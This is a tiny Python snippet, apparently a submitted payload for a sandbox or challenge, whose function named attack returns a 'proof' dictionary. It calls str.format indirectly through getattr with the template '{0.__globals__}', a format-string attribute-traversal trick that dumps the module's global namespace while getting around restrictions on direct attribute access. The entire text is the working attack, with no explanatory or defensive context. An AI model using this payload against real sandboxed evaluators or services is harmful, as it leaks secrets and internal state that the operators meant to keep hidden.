def attack():
    return {"proof": getattr("{0.__globals__}", "format")(attack)}
